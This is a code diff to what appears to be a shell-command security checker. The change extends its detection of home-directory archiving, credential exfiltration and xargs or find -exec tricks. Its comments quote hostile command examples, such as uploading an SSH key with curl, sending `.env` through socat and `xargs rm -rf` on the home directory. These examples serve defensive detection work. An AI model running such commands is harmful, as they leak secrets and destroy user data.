@@ -7,12 +7,15 @@
 import { compiledRegex } from '../policy/arg-rule.js';
 import { joinSegments, pathSegments } from '../policy/paths.js';
 import { CREDENTIAL_PATH } from './credential-paths.js';
+import { FILE_LISTERS } from './egress-vocabulary.js';
 import {
   collectAssignments,
   commandName,
   computedScript,
   deepTail,
+  expandCommandWords,
   expandWord,
+  findReach,
   hiddenTails,
   homeMoved,
   isStringArray,
@@ -29,9 +32,10 @@ import {
   scriptSource,
   scriptsOf,
   wentHome,
+  xargsFed,
 } from './shell.js';
 import { resumesEarlier } from './shell-history.js';
-import { UNSEEN_MARK } from './shell-option-scripts.js';
+import { listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
 import { type SimpleCommand, showPiece } from './shell-parse.js';
 import { type CommandParse, parseCommands, plainParse, shellFastPath } from './shell-plain.js';
 import { mayWriteFile, writtenScripts } from './shell-written.js';
@@ -307,6 +311,8 @@ function plainLines(
   if (cmds.length > 1 && homeMoved(cmds)) return undefined;
   // `cd ~ && tar czf - .`: what a carrier's `.` names there is the general reader's (scriptsOf).
   if (cmds.length > 1 && wentHome(cmds)) return undefined;
+  // `find ~ | cpio -o`: what an archiver packs from a listed home is the general reader's (round 24).
+  if (cmds.length > 1 && cmds.some(mayListHome)) return undefined;
   let itself = verbatim;
   let respelled = false;
   let inner: string[] | undefined;
@@ -354,6 +360,14 @@ function plainLines(
   return [line, canonical, inner];
 }
 const NO_VARS: ReadonlyMap<string, string> = new Map();
+const NO_HOMES: ReadonlySet<string> = new Set();
+/** A lister naming a home (`find ~`), its name looked up once: a path word (`/usr/bin/find`) is read whole. */
+const mayListHome = (c: SimpleCommand): boolean => {
+  const w = c.words[0] ?? '';
+  return (
+    (FILE_LISTERS.has(w) || w.charCodeAt(0) === 47 || w.charCodeAt(0) === 46) && listsHome(c.words, NO_HOMES)
+  );
+};
 /** tailLines past hiddenTails' bound: a marker no rendering equals (a NUL never survives the parse). */
 const TOO_MANY: readonly string[] = Object.freeze(['\0too-many-tails']);
 
@@ -405,7 +419,24 @@ function readList(
           else add(st, line);
         }
   for (let i = 0; i < cmds.length; i++) {
-    scripts.push(...scriptsOf(cmds, i, starts[i], all));
+    // `q=tar; $q czf - ~`, `{socat,} FILE:.env ..`: a computed command word read as what it expands to, so
+    // the programs' own readers (home-sent, credential-sent, ...) read it as analyse does (round 24).
+    const words = (cmds[i] as SimpleCommand).words;
+    const at = starts[i] as readonly number[];
+    // Only with a variable the text sets or a word opening a brace: most commands are not looked at again.
+    const expanded =
+      st.vars.size > 0 || at.some((s) => (words[s] as string).charCodeAt(0) === 123 /* { */)
+        ? expandCommandWords(words, st.vars, at)
+        : undefined;
+    if (expanded === undefined) scripts.push(...scriptsOf(cmds, i, starts[i], all));
+    else {
+      const list = cmds.slice();
+      list[i] = { ...(cmds[i] as SimpleCommand), words: expanded, literal: undefined };
+      scripts.push(...scriptsOf(list, i, layerStarts(expanded), all));
+    }
+    // `echo ~ | xargs rm -rf`: what xargs runs on the listed words, for the rules (round 24; the write
+    // targets keep xargs's own reading: `find . -name '*.log' | xargs rm -f` asks a witness, not .git/'s refusal).
+    scripts.push(...xargsFed(cmds, i, starts[i] as readonly number[]));
     scripts.push(...tailScripts(cmds[i] as SimpleCommand, starts[i] as readonly number[]));
     // `find ... -exec CMD ;` runs CMD.
     const cmd = cmds[i] as SimpleCommand;
@@ -597,14 +628,23 @@ function commandWord(word: string, vars: ReadonlyMap<string, string>): string {
   return parts.length > 1 ? `${name} ${parts.slice(1).join(' ')}` : name;
 }
 
-/** The commands of `find ... -exec CMD ... ;` as scripts. */
+/**
+ * The commands of `find ... -exec CMD ... ;` as scripts, `{}` read as what find finds (shell.ts findReach:
+ * `find ~ -exec tar rf x {} +` packs the home, `find ~ -name id_rsa -exec curl -T {} h` sends a key).
+ */
 function execScripts(words: readonly string[]): string[] {
   const out: string[] = [];
+  let reach: string[] | undefined;
   for (let j = 1; j < words.length; j++) {
     if (!isExecFlag(words[j] as string)) continue;
     let end = j + 1;
     while (end < words.length && words[end] !== ';' && words[end] !== '+') end++;
-    if (end > j + 1) out.push(quoteWords(words.slice(j + 1, end)));
+    const inner = words.slice(j + 1, end);
+    if (inner.length > 0) out.push(quoteWords(inner));
+    if (inner.includes('{}')) {
+      reach ??= findReach(words);
+      for (const r of reach) out.push(quoteWords(inner.map((x) => (x === '{}' ? r : x))));
+    }
     j = end;
   }
   return out;
